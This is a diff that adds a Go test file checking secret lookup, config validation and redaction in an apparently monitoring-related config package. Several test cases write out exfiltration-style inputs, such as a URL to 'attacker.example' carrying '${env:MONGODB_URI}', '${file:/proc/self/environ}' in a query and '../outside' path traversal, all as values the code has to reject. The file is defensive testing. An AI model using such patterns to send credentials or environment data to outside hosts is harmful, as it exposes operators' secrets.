@@ -0,0 +1,196 @@
+package config
+
+import (
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLookupSecretRestrictions(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "token"), []byte("file-value\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	outside := filepath.Join(t.TempDir(), "outside")
+	if err := os.WriteFile(outside, []byte("leaked"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(dir, "link")); err != nil {
+		t.Fatal(err)
+	}
+
+	t.Setenv("SECRETS_DIR", dir)
+	t.Setenv("MONITOR_SECRET_TOKEN", "env-value")
+	t.Setenv("OTHER_TOKEN", "leaked")
+
+	tests := []struct {
+		source string
+		name   string
+		want   string
+		errMsg string
+	}{
+		{"env", "MONITOR_SECRET_TOKEN", "env-value", ""},
+		{"env", "OTHER_TOKEN", "", "only variables starting with"},
+		{"env", "MONGODB_URI", "", "only variables starting with"},
+		{"env", "MONITOR_SECRET_", "", "only variables starting with"},
+		{"env", "MONITOR_SECRET_UNSET", "", "not set"},
+		{"file", "token", "file-value", ""},
+		{"file", filepath.Join(dir, "token"), "file-value", ""},
+		{"file", "../outside", "", "outside"},
+		{"file", "sub/../../outside", "", "outside"},
+		{"file", "/proc/self/environ", "", "outside"},
+		{"file", outside, "", "outside"},
+		{"file", "link", "", "outside"},
+		{"file", ".", "", "outside"},
+		{"vault", "x", "", "unknown secret source"},
+	}
+
+	for _, tt := range tests {
+		got, err := lookupSecret(tt.source, tt.name)
+		if tt.errMsg != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.errMsg) {
+				t.Errorf("lookupSecret(%q, %q) error = %v, want %q", tt.source, tt.name, err, tt.errMsg)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("lookupSecret(%q, %q) error = %v", tt.source, tt.name, err)
+			continue
+		}
+		if got != tt.want {
+			t.Errorf("lookupSecret(%q, %q) = %q, want %q", tt.source, tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestValidateRejectsSecretRefs(t *testing.T) {
+	t.Setenv("SECRETS_DIR", t.TempDir())
+
+	tests := []struct {
+		name   string
+		config APIConfig
+		ok     bool
+	}{
+		{"allowed env", APIConfig{URL: "https://example.com/?k=${env:MONITOR_SECRET_KEY}"}, true},
+		{"allowed file", APIConfig{URL: "https://example.com/", Headers: map[string]string{"X-Key": "${file:key}"}}, true},
+		{"env in url", APIConfig{URL: "https://attacker.example/?k=${env:MONGODB_URI}"}, false},
+		{"file in query", APIConfig{URL: "https://example.com/", Query: map[string]string{"k": "${file:/proc/self/environ}"}}, false},
+		{"env in body", APIConfig{URL: "https://example.com/", Method: "POST", Body: "${env:SLACK_WEBHOOK_URL}"}, false},
+		{"env in step", APIConfig{Type: TypeSteps, Steps: []StepConfig{{URL: "https://example.com/${env:HOME}"}}}, false},
+	}
+
+	for _, tt := range tests {
+		tt.config.Name = "monitor"
+		tt.config.ApplyDefaults()
+		err := tt.config.Validate()
+		if tt.ok && err != nil {
+			t.Errorf("%s: Validate() = %v, want nil", tt.name, err)
+		}
+		if !tt.ok && err == nil {
+			t.Errorf("%s: Validate() = nil, want an error", tt.name)
+		}
+	}
+}
+
+func TestSecretsRedact(t *testing.T) {
+	tests := []struct {
+		name   string
+		values []string
+		text   string
+		want   string
+	}{
+		{
+			name:   "plain value",
+			values: []string{"s3cret"},
+			text:   "Authorization: Bearer s3cret",
+			want:   "Authorization: Bearer [REDACTED]",
+		},
+		{
+			name:   "every occurrence",
+			values: []string{"s3cret"},
+			text:   "s3cret and s3cret again",
+			want:   "[REDACTED] and [REDACTED] again",
+		},
+		{
+			name:   "query-escaped value",
+			values: []string{"a b/c&d"},
+			text:   `Get "https://api.example.test/?key=a+b%2Fc%26d": EOF`,
+			want:   `Get "https://api.example.test/?key=[REDACTED]": EOF`,
+		},
+		{
+			name:   "path-escaped value",
+			values: []string{"a b/c"},
+			text:   `Get "https://api.example.test/a%20b%2Fc/status": EOF`,
+			want:   `Get "https://api.example.test/[REDACTED]/status": EOF`,
+		},
+		{
+			name:   "several secrets",
+			values: []string{"user-token", "api-key"},
+			text:   "token=user-token key=api-key",
+			want:   "token=[REDACTED] key=[REDACTED]",
+		},
+		{
+			name:   "secret containing another secret",
+			values: []string{"abc", "abcdef"},
+			text:   "long=abcdef short=abc",
+			want:   "long=[REDACTED] short=[REDACTED]",
+		},
+		{
+			name:   "no secrets",
+			values: nil,
+			text:   "nothing to hide",
+			want:   "nothing to hide",
+		},
+		{
+			name:   "unrelated text",
+			values: []string{"s3cret"},
+			text:   "connection refused",
+			want:   "connection refused",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			secrets := &Secrets{values: tt.values}
+			if got := secrets.Redact(tt.text); got != tt.want {
+				t.Errorf("Redact(%q) = %q, want %q", tt.text, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSecretsRedactNil(t *testing.T) {
+	var secrets *Secrets
+	if got := secrets.Redact("s3cret"); got != "s3cret" {
+		t.Errorf("nil Redact = %q, want the text unchanged", got)
+	}
+}
+
+func TestResolveSecretsRedactsResolvedValues(t *testing.T) {
+	t.Setenv("MONITOR_SECRET_TOKEN", "tok en/1")
+
+	apiConfig := APIConfig{
+		URL:     "https://api.example.test/${env:MONITOR_SECRET_TOKEN}/status",
+		Headers: map[string]string{"Authorization": "Bearer ${env:MONITOR_SECRET_TOKEN}"},
+	}
+	resolved, secrets, err := apiConfig.ResolveSecrets()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if resolved.Headers["Authorization"] != "Bearer tok en/1" {
+		t.Errorf("Authorization = %q, want the resolved token", resolved.Headers["Authorization"])
+	}
+	if apiConfig.Headers["Authorization"] != "Bearer ${env:MONITOR_SECRET_TOKEN}" {
+		t.Error("ResolveSecrets modified the receiver")
+	}
+
+	u, err := url.Parse(resolved.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := secrets.Redact(u.String()); strings.Contains(got, "tok") {
+		t.Errorf("Redact(%q) = %q, want the token removed", u.String(), got)
+	}
+}